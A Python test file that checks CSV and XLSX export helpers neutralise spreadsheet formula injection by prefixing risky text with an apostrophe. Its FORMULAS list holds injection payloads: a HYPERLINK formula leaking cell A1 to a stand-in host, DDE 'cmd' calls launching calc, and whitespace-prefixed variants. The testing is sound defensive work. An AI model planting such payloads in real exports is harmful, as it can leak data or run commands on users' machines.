"""Cells of the CSV and XLSX files we write are inert (DESIGN §4.14)."""

import datetime
import io

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from opencertif.core.cells import csv_row, inert, xlsx_row

FORMULAS = [
    '=HYPERLINK("https://exemple.test/?q="&A1,"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\n=1+1",
    "\u00a0@SUM(A1)",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["", "Martin Camille", "RNCP34762", "a=b", "Jean-Pierre", "'=déjà neutralisé", "ko"],
)
def test_a_harmless_text_is_kept_as_it_is(value):
    assert inert(value) == value


@pytest.mark.parametrize(
    "value", [0, -1, 12.5, None, True, datetime.date(2025, 6, 20), datetime.datetime(2025, 1, 1)]
)
def test_numbers_and_dates_are_not_texts_and_are_left_alone(value):
    assert inert(value) is value


def test_a_csv_row_writes_dates_in_french_and_neutralises_texts():
    moment = timezone.make_aware(datetime.datetime(2025, 6, 20, 14, 5))
    row = csv_row(["=1+1", 7, None, datetime.date(2025, 6, 20), moment, "ok"])
    assert row == ["'=1+1", 7, "", "20/06/2025", "20/06/2025 14:05", "ok"]


def test_an_xlsx_row_keeps_numbers_and_dates_typed_and_texts_never_formulas():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    moment = timezone.make_aware(datetime.datetime(2025, 6, 20, 14, 5))
    sheet.append(xlsx_row(sheet, [*FORMULAS, 42, -3, datetime.date(2025, 6, 20), moment]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    texts, numbers = cells[: len(FORMULAS)], cells[len(FORMULAS) :]
    for cell, text in zip(texts, FORMULAS, strict=True):
        assert cell.data_type == "s" and cell.value == "'" + text
    assert [(cell.value, cell.data_type) for cell in numbers[:2]] == [(42, "n"), (-3, "n")]
    assert numbers[2].is_date and numbers[2].value == datetime.datetime(2025, 6, 20)
    assert numbers[3].is_date and numbers[3].value == datetime.datetime(2025, 6, 20, 14, 5)
    assert numbers[2].number_format == "DD/MM/YYYY"
